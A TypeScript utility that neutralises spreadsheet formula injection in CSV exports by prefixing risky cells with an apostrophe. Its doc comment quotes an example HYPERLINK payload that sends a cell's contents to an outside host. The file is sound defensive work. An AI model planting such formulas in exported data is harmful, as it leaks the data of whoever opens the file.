/**
 * Cells of a CSV a spreadsheet may open (docs/security.md, "Numbers, formulas and names").
 * Excel, LibreOffice and Google Sheets read a CSV cell that starts with `=`, `+`, `-` or `@`
 * (also after a tab or a carriage return) as a formula: an answer `=HYPERLINK("http://x?"&A1)`
 * would run in the reader's spreadsheet. Such a cell is written with a `'` in front, which the
 * spreadsheet shows as text. A cell that is a plain number (`-5`, `+3`, `-1.5e3`) is left as it
 * is: a spreadsheet reads it as that number, never as a formula. Numbers the exporter writes as
 * numbers (`_id`, split choice columns) are never touched.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$/;

/** `text` as a cell no spreadsheet reads as a formula. */
export function inertText(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/** A row of cells with every text cell made inert; numbers, null and undefined as they are. */
export function inertRow<T>(row: T[]): T[] {
  return row.map((v) => (typeof v === 'string' ? (inertText(v) as T) : v));
}

/** The row writer of an export: inertRow, or the cells as they are when the caller opted out (`escape_formulas=false`). */
export function formulaGuard(escape: boolean | undefined): <T>(row: T[]) => T[] {
  return escape === false ? (row) => row : inertRow;
}
